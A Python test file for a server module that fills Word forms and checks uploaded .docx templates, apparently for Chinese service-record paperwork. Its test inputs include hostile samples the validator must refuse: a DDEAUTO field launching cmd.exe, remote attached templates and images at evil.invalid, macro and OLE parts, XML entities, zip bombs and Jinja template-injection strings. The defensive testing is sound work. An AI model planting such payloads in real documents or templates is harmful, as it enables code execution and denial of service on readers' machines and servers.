"""Word files: what is in the values comes out as it was; what is in the bureau's templates is looked at first."""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable, Mapping

import docx
import pytest
from docx.oxml.ns import qn

from server.gateways import office
from server.gateways.office.examining import MOST_HOLES
from server.gateways.office.layout import Column, Field, Fields, Filled, Form, Prose, SignBlock, Table
from server.gateways.office.words import words_of
from tests.factories.office import FORM, HOSTILE, RARE, SIGNS, content, drawing, filled, signed

MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


def text_of(raw: bytes) -> str:
    """All text of the body with its line breaks."""
    body = docx.Document(io.BytesIO(raw)).element.body
    return "\n".join(
        "".join("\n" if node.tag == qn("w:br") else node.text or "" for node in line.iter(qn("w:t"), qn("w:br")))
        for line in body.iter(qn("w:p"))
    )


def changed(raw: bytes, change: Callable[[dict[str, bytes]], Mapping[str, bytes] | None]) -> bytes:
    """A .docx with other members."""
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts = dict(change(parts) or parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, told in parts.items():
            archive.writestr(name, told)
    return out.getvalue()


def swapped(old: str, new: str, member: str = "word/document.xml") -> bytes:
    """The form's own template with other words in it."""

    def change(parts: dict[str, bytes]) -> None:
        assert old.encode() in parts[member]
        parts[member] = parts[member].replace(old.encode(), new.encode())

    return changed(office.default_template(FORM), change)


def added(name: str, raw: bytes = b"x") -> bytes:
    return changed(office.default_template(FORM), lambda parts: parts | {name: raw})


def problems(raw: bytes, form: Form = FORM) -> str:
    told = office.examine(raw, form)
    assert told.accepted is not bool(told.problems)
    return "\n".join(told.problems)


@pytest.mark.parametrize(
    "text", ["a<b&c", HOSTILE, RARE, "]]>", "&lt;b&gt;", "{_{ x }_} {_% y %_}", "{{ 7*7 }}", 'it\'s "q"']
)
def test_text_survives(text: str) -> None:
    told = text_of(office.word(filled(text))).replace("\u2060", "")
    assert told.count(text) >= 5
    assert "49" not in told


def test_everything_of_the_form_is_in_it() -> None:
    told = text_of(office.word(filled()))
    for each in ("编号：FW-JX-2026-001-2026-0042", "合同编号", "=1+1", "异常与整改", "注：本单一式两份。", "签　字："):
        assert each in told
    assert "{" not in told
    assert "合同：小程序运行维护服务合同\n期间：2026年3月" in told
    assert "第一行\n已恢复" in told


def test_a_table_without_rows_says_so_and_least_rows_are_drawn() -> None:
    document = docx.Document(io.BytesIO(office.word(Filled(FORM, {}))))
    parts = next(table for table in document.tables if table.rows[0].cells[1].text == "名称")
    nothing = next(table for table in document.tables if table.rows[0].cells[1].text == "事项")
    assert len(parts.rows) == 1 + 2
    assert [cell.text for cell in nothing.rows[1].cells] == ["", "无", ""]
    assert parts.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None


def test_signatures_are_filled_in() -> None:
    raw = office.word(filled(signed=signed()))
    told = text_of(raw)
    assert "签字人：王工程师" in told
    assert told.count("方　式：普通电子签名") == 2
    assert "签　字：____" not in told
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert drawing() in [archive.read(name) for name in archive.namelist() if "media" in name]


def test_prose_has_a_paragraph_for_each_line() -> None:
    document = docx.Document(io.BytesIO(office.word(filled("第一段"))))
    told = [paragraph.text for paragraph in document.paragraphs]
    assert told[told.index("第一段") + 1] == "第二段"


def test_the_same_paper_is_the_same_bytes_and_names_nobody() -> None:
    raw = office.word(filled(signed=signed(), watermark="张三导出"))
    assert raw == office.word(filled(signed=signed(), watermark="张三导出"))
    properties = docx.Document(io.BytesIO(raw)).core_properties
    assert (properties.author, properties.title) == ("", "运维服务记录单")
    assert "张三导出" in docx.Document(io.BytesIO(raw)).sections[0].header.paragraphs[0].text


def test_chinese_fonts_are_named() -> None:
    with zipfile.ZipFile(io.BytesIO(office.default_template(FORM))) as archive:
        told = archive.read("word/document.xml").decode()
    assert set(re.findall(r'w:eastAsia="([^"]+)"', told)) == {"宋体", "黑体"}


def test_the_forms_own_template_passes() -> None:
    assert office.examine(office.default_template(FORM), FORM) == office.Examined()


def test_words_are_used_once() -> None:
    form = Form(
        "同名",
        (
            Fields("a", (Field("x", "编号"), Field("y", "日期")), label="甲"),
            Fields("b", (Field("x", "日期"), Field("y", "2026年 CPU（%）")), label="乙"),
            Fields("c", (Field("x", "日期"),)),
            Table("t", (Column("x", "序号"), Column("y", "CPU/内存"))),
            Table("u", (Column("x", "行"),)),
            Prose("p"),
        ),
        (SignBlock("vendor", "日期"),),
    )
    told = words_of(form)
    names = [*told.fields.values(), *told.tables.values(), *told.prose.values(), *(name for _, name in told.signs)]
    assert len(set(names)) == len(names)
    assert all(name.isidentifier() for name in names)
    assert told.fields["b", "x"] == "乙_日期"
    assert office.examine(office.default_template(form), form).accepted


def test_the_clerks_list_names_every_placeholder() -> None:
    told = {hole for hole, _ in office.listed(FORM)}
    assert {"{{ 编号 }}", "{{ 合同编号 }}", "{{ 行.名称 }}", "{{ 乙方签字盖章 }}", "{{ 小结 }}"} <= told


@pytest.mark.parametrize(
    ("raw", "said"),
    [
        (b"", "不是有效的 Word 文档"),
        (b"PK\x03\x04 nonsense", "不是有效的 Word 文档"),
        (b"%PDF-1.7", "不是有效的 Word 文档"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "加密"),
        (b"x" * (10 * 1024 * 1024 + 1), "不能超过 10 MB"),
    ],
)
def test_what_is_no_word_file_is_refused(raw: bytes, said: str) -> None:
    assert said in problems(raw)


BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
ONE = '<Relationship Id="rX" Type="{}/{}" Target="{}" TargetMode="{}"/>'
OUTSIDE = RELATIONS.format(ONE.format(BASE, "attachedTemplate", "http://evil.invalid/t.dotm", "External")).encode()


def _rels(kind: str, target: str, mode: str = "External", *, of: str = "document") -> bytes:
    one, name = ONE.format(BASE, kind, target, mode), f"word/_rels/{of}.xml.rels"
    return changed(
        office.default_template(FORM),
        lambda parts: (
            parts | {name: parts.get(name, RELATIONS.format("").encode()).replace(b"</Relat", f"{one}</Relat".encode())}
        ),
    )


def _disguised(name: str, kind: str) -> bytes:
    told = f'<Override PartName="/{name}" ContentType="application/vnd.openxmlformats-officedocument.{kind}"/></Types>'
    raw = swapped("</Types>", told, "[Content_Types].xml")
    return changed(raw, lambda parts: parts | {name: b"<a/>"})


def _field(*pieces: str) -> bytes:
    run = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    run += "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    run += '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return swapped("<w:body>", f"<w:body><w:p>{run}</w:p>")


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: added("word/vbaProject.bin"), "宏"),
        (lambda: added("word/activeX/activeX1.xml", b"<a/>"), "ActiveX"),
        (lambda: added("word/embeddings/oleObject1.bin"), "OLE"),
        (lambda: added("customUI/customUI.xml", b"<a/>"), "customUI"),
        (
            lambda: swapped(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                MACRO,
                "[Content_Types].xml",
            ),
            "启用宏",
        ),
        (lambda: _rels("attachedTemplate", "http://evil.invalid/t.dotm"), "附加模板“http://evil.invalid/t.dotm”"),
        (lambda: _rels("attachedTemplate", "file.dotm", "Internal"), "附加模板"),
        (lambda: _rels("attachedTemplate", "http://evil.invalid/t.dotm", of="settings"), "附加模板"),
        (lambda: added("word/_rels/settings.xml.RELS", OUTSIDE), "附加模板"),
        (lambda: added("word/_rels/header9.xml.rels", OUTSIDE), "附加模板"),
        (lambda: _rels("aFChunk", "chunk.html", "Internal"), "外来内容"),
        (lambda: _rels("subDocument", "part.docx", "Internal"), "子文档"),
        (lambda: _rels("vbaProject", "harmless.bin", "Internal"), "宏"),
        (lambda: _rels("oleObject", "harmless.bin", "Internal"), "外部对象"),
        (lambda: _disguised("word/header9.dat", "wordprocessingml.header+xml"), "类型与名称不符"),
        (lambda: _disguised("word/harmless.dat", "ms-office.vbaProject"), "类型与名称不符"),
        (lambda: _rels("image", "http://evil.invalid/x.png"), "外部图片"),
        (lambda: _rels("hyperlink", "http://evil.invalid/"), "超链接"),
        (lambda: _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "DDEAUTO"),
        (lambda: _field(" DD", "EAU", "TO cmd"), "DDEAUTO"),
        (lambda: _field('INCLUDEPICTURE "http://evil.invalid/x.png"'), "INCLUDEPICTURE"),
        (
            lambda: swapped("<w:body>", '<w:body><w:p><w:fldSimple w:instr="INCLUDETEXT x.docx"/></w:p>'),
            "INCLUDETEXT",
        ),
        (lambda: swapped("<w:body>", "<w:body><w:p>"), "已损坏"),
        (lambda: added("word/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "实体定义"),
        (
            lambda: added("word/extra.xml", '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")),
            "实体定义",
        ),
        (lambda: added("word/media/bomb.bin", b"\0" * 20_000_000), "压缩炸弹"),
        (
            lambda: added("word/big.xml", b"<a>" + random.Random(1).randbytes(4_500_000).hex().encode() + b"</a>"),
            "过大",
        ),
    ],
)
def test_hostile_templates_are_refused(make: Callable[[], bytes], said: str) -> None:
    assert said in problems(make())


def test_too_many_members_or_too_much_unpacked_is_refused() -> None:
    many = changed(office.default_template(FORM), lambda parts: parts | {f"x/{n}.bin": b"" for n in range(600)})
    assert "过多" in problems(many)
    heavy = changed(
        office.default_template(FORM), lambda parts: parts | {f"x/{n}": b"\0" * 1_000_000 for n in range(70)}
    )
    assert "解压后过大" in problems(heavy)


def test_a_member_that_understates_its_size_is_refused() -> None:
    raw = bytearray(added("word/media/bomb.bin", b"\0" * 20_000_000))
    at = raw.rindex(b"word/media/bomb.bin") - 46
    assert raw[at : at + 4] == b"PK\x01\x02"
    raw[at + 24 : at + 28] = (10).to_bytes(4, "little")
    assert "不是有效的 Word 文档" in problems(bytes(raw))


def test_locked_members_are_refused() -> None:
    raw = bytearray(office.default_template(FORM))
    at = raw.index(b"PK\x01\x02")
    raw[at + 8] |= 1
    assert "加密" in problems(bytes(raw))


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("{{ 合同编号 }}", "{{ 合同号 }}", "占位符“合同号”不存在"),
        ("{{ 合同编号 }}", "{{ 合同编号 }", "括号不配对，位置：“{{ 合同编号 }”"),
        ("{{ 合同编号 }}", "合同编号 }}", "括号不配对"),
        ("{{ 合同编号 }}", "{{ 合同编号 客户 }}", "占位符写法有误，位置：“{{ 合同编号 客户 }}”"),
        ("{{ 合同编号 }}", "｛｛ 合同编号 ｝｝", "全角括号"),
        ("{{ 合同编号 }}", "{% if 合同编号 %}有", "没有正确结束"),
        ("{{ 合同编号 }}", "{{ ''.__class__.__mro__ }}", "写在了表格行循环之外"),
        ("{{ 合同编号 }}", "{{ 合同编号.__class__ }}", "写在了表格行循环之外"),
        ("{{ 合同编号 }}", "{{ 合同编号[0] }}", "方括号取值"),
        ("{{ 合同编号 }}", "{{ range(9) }}", "函数调用"),
        ("{{ 合同编号 }}", "{{ 合同编号|upper }}", "过滤器"),
        ("{{ 合同编号 }}", "{% include 'x' %}", "include"),
        ("{{ 合同编号 }}", "{% import 'x' as y %}", "import"),
        ("{{ 合同编号 }}", "{% set x = 1 %}", "set"),
        ("{{ 合同编号 }}", "{% macro x() %}{% endmacro %}", "macro"),
        ("{{ 合同编号 }}", "{{ 9**9**9 }}", "运算"),
        ("{{ 合同编号 }}", "{% nonsense %}", "不认识的语句"),
        ("{{ 合同编号 }}", "{% for x in 合同编号 %}{{ x }}{% endfor %}", "表“合同编号”不存在"),
        ("{{ 合同编号 }}", "{{ lipsum }}", "占位符“lipsum”不存在"),
        ("{{ 合同编号 }}", "{{ self }}", "占位符“self”不存在"),
        ("{{ 行.名称 }}", "{{ 行.品名 }}", "表“使用材料”没有“品名”这一列"),
        ("{{ 行.名称 }}", "{{ row.名称 }}", "循环变量名不一致"),
        ("{{ 行.名称 }}", "{% for 行 in 使用材料 %}{{ 行.名称 }}{% endfor %}", "不能再套循环"),
        ("{{ 编号 }}", "（编号）", "缺少文书编号"),
        ("{{ 乙方签字盖章 }}", "乙方", "缺少签署处“乙方（签字盖章）”"),
        ("{%tr for 行 in 使用材料 %}", "{%tr for 行 in 异常与整改 %}", "缺少表格“使用材料”"),
    ],
)
def test_what_a_template_says_wrong_is_named(old: str, new: str, said: str) -> None:
    assert said in problems(swapped(old, new))


def test_placeholders_in_the_footer_and_the_properties_are_looked_at() -> None:
    footer = swapped("{{ 校验码 }}", "{{ 验证码 }}", "word/footer1.xml")
    assert "占位符“验证码”不存在" in problems(footer)
    title = swapped("{{ 标题 }}", "{{ cycler.__init__ }}", "docProps/core.xml")
    assert "cycler" in problems(title)


def test_all_that_is_wrong_is_said_at_once() -> None:
    raw = swapped("{{ 合同编号 }}", "{{ 甲 }} {{ 乙 }}")
    raw = changed(
        raw, lambda parts: parts | {"word/document.xml": parts["word/document.xml"].replace("{{ 编号 }}".encode(), b"")}
    )
    told = problems(raw)
    assert "“甲”" in told
    assert "“乙”" in told
    assert "缺少文书编号" in told


def test_what_a_template_does_not_show_is_noted_but_no_hindrance() -> None:
    told = office.examine(swapped("{{ 合同编号 }}", ""), FORM)
    assert told.accepted
    assert "合同编号" in told.notes[0]


def test_a_row_loop_in_the_wrong_place_is_found_by_trying() -> None:
    raw = swapped("{%tr for 行 in 使用材料 %}", "{% for 行 in 使用材料 %}")
    assert not office.examine(raw, FORM).accepted


def test_too_many_holes_are_refused() -> None:
    raw = swapped("{{ 合同编号 }}", "{{ 合同编号 }}" * MOST_HOLES)
    assert "过多" in problems(raw)


def test_a_placeholder_that_word_cut_into_runs_is_understood() -> None:
    cut = '{{ 合同</w:t></w:r><w:r><w:rPr><w:rFonts w:hint="eastAsia"/></w:rPr><w:t>编号 }}'
    raw = swapped("{{ 合同编号 }}", cut)
    assert office.examine(raw, FORM).accepted
    assert "JX-2026-001" in text_of(office.word(filled(), template=raw))


def test_a_bureau_template_is_filled_in_its_own_words() -> None:
    document = docx.Document()
    document.add_paragraph("某某局专用 {{ 编号 }}")
    document.add_paragraph("{% if 处理结果 %}结果：{{ 处理结果 }}{% endif %}")
    for name in ("使用材料", "异常与整改"):
        grid = document.add_table(rows=3, cols=2)
        grid.rows[0].cells[0].text = "{%tr for 项 in " + name + " %}"
        grid.rows[1].cells[0].text = "{{ loop.index }}：{{ 项.序号 }}"
        grid.rows[1].cells[1].text = "{{ 项.名称 }}" if name == "使用材料" else "{{ 项.事项 }}"
        grid.rows[2].cells[0].text = "{%tr endfor %}"
    document.add_paragraph("{{ 乙方签字盖章 }}{{ 甲方签字盖章 }}")
    out = io.BytesIO()
    document.save(out)
    assert office.examine(out.getvalue(), FORM).problems == ()
    told = text_of(office.word(filled("a<b&c"), template=out.getvalue()))
    assert "某某局专用 FW-JX-2026-001-2026-0042" in told
    assert "结果：a<b&c" in told
    assert "2：2" in told


@pytest.mark.parametrize("raw", [b"nonsense", swapped("{{ 合同编号 }}", "{{ 合同号 }}")])
def test_a_template_that_no_longer_fits_says_so_when_it_is_used(raw: bytes) -> None:
    with pytest.raises(office.TemplateBroken) as refused:
        office.word(filled(), template=raw)
    assert refused.value.code == "template_broken"


def test_damaged_files_never_do_more_than_be_refused() -> None:
    dice = random.Random(20261121)
    own = office.default_template(FORM)
    for _ in range(60):
        raw = bytearray(own)
        for _ in range(dice.randrange(1, 30)):
            raw[dice.randrange(len(raw))] = dice.randrange(256)
        office.examine(bytes(raw[: dice.randrange(len(raw))] if dice.random() < 0.2 else raw), FORM)


def test_content_of_every_kind_is_in_the_sample() -> None:
    assert set(content()) == {block.key for block in FORM.blocks}
    assert FORM.signs == SIGNS
